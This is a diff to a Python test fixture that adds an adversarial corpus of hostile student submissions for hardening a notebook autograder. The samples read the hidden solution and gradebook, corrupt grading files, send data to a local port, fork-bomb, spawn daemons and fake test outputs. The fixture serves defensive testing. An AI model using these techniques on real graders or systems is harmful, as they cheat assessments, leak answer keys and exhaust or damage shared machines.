@@ -1,8 +1,16 @@
-"""Hostile submissions: each is (name, {grade_id: source}) replacing cells of the full solution.
+"""The adversarial corpus: hostile submissions, graded through the real CLI by the tests.
 
-Every one keeps the graded functions it tampers for *wrong* (or missing), so a fair
-grader gives those functions 0 points; the tests check that tampering never helps.
+``ATTACKS`` are code attacks, ``name -> (function, source)``: the source replaces that
+function's solution cell. Each keeps the function wrong (or missing), so a fair grader
+gives it 0 points. Built on the untouched release, an attack must score no more than the
+release (0); built on the full solution, the attacks that leave the process alive must
+not cost the other functions their points. ``{course}`` and ``{port}`` in a source are
+replaced by the course folder and a port on which the test listens.
+
+``NOTEBOOK_ATTACKS`` change the notebook's structure or are not notebooks at all.
 """
+import copy
+import json
 
 WRONG_PREDICT = '''def predict(X, w, b):
     return -np.ones(len(X))
@@ -87,4 +95,176 @@ def predict(X, w, b):
     "object_array": ("predict", '''def predict(X, w, b):
     return np.array([object()] * len(X))
 '''),
+    "read_master": ("predict", '''import json
+def predict(X, w, b):
+    cells = json.load(open("{course}/solutions/ps1/ps1.ipynb"))["cells"]
+    source = next("".join(c["source"]) for c in cells
+                  if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "predict")
+    scope = {"np": np}
+    exec(source, scope)
+    return scope["predict"](X, w, b)
+'''),
+    "read_gradebook": ("predict", WRONG_PREDICT + '''
+leaked = open("{course}/gradebook.db", "rb").read(100)
+'''),
+    "write_gradebook": ("predict", WRONG_PREDICT + '''
+try:
+    with open("{course}/gradebook.db", "r+b") as f:
+        f.write(b"corrupted by a student" * 100)
+except OSError:
+    pass
+for name in ["{course}/solutions/ps1/ps1.ipynb", "{course}/nbgrader_config.py"]:
+    try:
+        open(name, "a").write("tampered")
+    except OSError:
+        pass
+'''),
+    "network": ("predict", WRONG_PREDICT + '''
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"secret")
+except OSError:
+    pass
+'''),
+    "sleep": ("predict", '''import time
+def predict(X, w, b):
+    time.sleep(1000)
+'''),
+    "loop_at_top_level": ("predict", WRONG_PREDICT + '''
+while True:
+    pass
+'''),
+    "fork_bomb": ("predict", '''import os
+def predict(X, w, b):
+    children = 0
+    while children < 5000:
+        try:
+            if os.fork() == 0:
+                import time
+                time.sleep(60)
+                os._exit(0)
+            children += 1
+        except OSError:
+            break
+    return -np.ones(len(X))
+'''),
+    "orphan_daemon": ("predict", WRONG_PREDICT + '''
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(600)
+    os._exit(0)
+'''),
+    "import_torch": ("predict", '''def predict(X, w, b):
+    import torch
+    return torch.sign(torch.as_tensor(X) @ torch.as_tensor(w) + b).numpy()
+'''),
+    "hidden_import": ("predict", '''import sys
+def predict(X, w, b):
+    sys.path.append("{course}/.venv/lib/python3.11/site-packages")
+    sys.path.append("{course}")
+    reference = __import__("autograder.problemsets.ps1", fromlist=["x"]).predict_reference
+    return reference(X, w, b)
+'''),
+    "system_exit_at_top_level": ("predict", WRONG_PREDICT + '''
+raise SystemExit(0)
+'''),
+    "keyboard_interrupt": ("predict", '''def predict(X, w, b):
+    raise KeyboardInterrupt
+'''),
+    "recursion": ("predict", '''import sys
+sys.setrecursionlimit(10**6)
+def predict(X, w, b):
+    return predict(X, w, b)
+'''),
+    "huge_return": ("predict", '''def predict(X, w, b):
+    return np.zeros((8000, 8000))
+'''),
 }
+
+
+def _grade_cells(nb):
+    return [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")
+            and not c["metadata"]["nbgrader"].get("solution")]
+
+
+def _delete_tests(nb):
+    nb["cells"] = [c for c in nb["cells"] if c not in _grade_cells(nb)]
+    return nb
+
+
+def _blank_tests(nb):
+    for c in _grade_cells(nb):
+        c["source"] = ""
+    return nb
+
+
+def _inflate_points(nb):
+    for c in nb["cells"]:
+        meta = c.get("metadata", {}).get("nbgrader")
+        if meta:
+            meta["points"] = 1000
+            meta["grade"] = True
+    return nb
+
+
+def _grade_off(nb):
+    for c in _grade_cells(nb):
+        c["metadata"]["nbgrader"]["grade"] = False
+    return nb
+
+
+def _tests_to_markdown(nb):
+    for c in _grade_cells(nb):
+        c["cell_type"] = "markdown"
+        c.pop("outputs", None)
+        c.pop("execution_count", None)
+    return nb
+
+
+def _bad_kernel(nb):
+    nb["metadata"]["kernelspec"] = {"name": "no-such-kernel", "display_name": "nope", "language": "python"}
+    return nb
+
+
+def _fake_outputs(nb):
+    for c in _grade_cells(nb):
+        c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "all cases passed"}]
+    return nb
+
+
+def _duplicate_ids(nb):
+    """Two cells claim grade_id 'predict': the first is wrong, the second a copy of the stub."""
+    cells = nb["cells"]
+    index = next(i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "predict")
+    clone = copy.deepcopy(cells[index])
+    cells[index]["source"] = "def predict(X, w, b):\n    return -np.ones(len(X))\n"
+    cells.insert(index + 1, clone)
+    return nb
+
+
+NOTEBOOK_ATTACKS = {
+    "deleted_test_cells": _delete_tests,
+    "blanked_test_cells": _blank_tests,
+    "inflated_points": _inflate_points,
+    "grade_flags_off": _grade_off,
+    "test_cells_as_markdown": _tests_to_markdown,
+    "missing_kernelspec": _bad_kernel,
+    "faked_test_outputs": _fake_outputs,
+    "duplicate_grade_ids": _duplicate_ids,
+}
+
+FILE_ATTACKS = {
+    "invalid_json": b'{"cells": [',
+    "empty_file": b"",
+    "binary_garbage": bytes(range(256)) * 64,
+    "json_not_a_notebook": b'{"hello": "world"}',
+    "oversized": b'{"cells": [], "padding": "' + b"x" * (21 * 2**20) + b'"}',
+}
+
+
+def notebook_attack(release_nb, name):
+    """The release with one structural attack applied, as bytes."""
+    nb = json.loads(json.dumps(release_nb))
+    return json.dumps(NOTEBOOK_ATTACKS[name](nb)).encode()
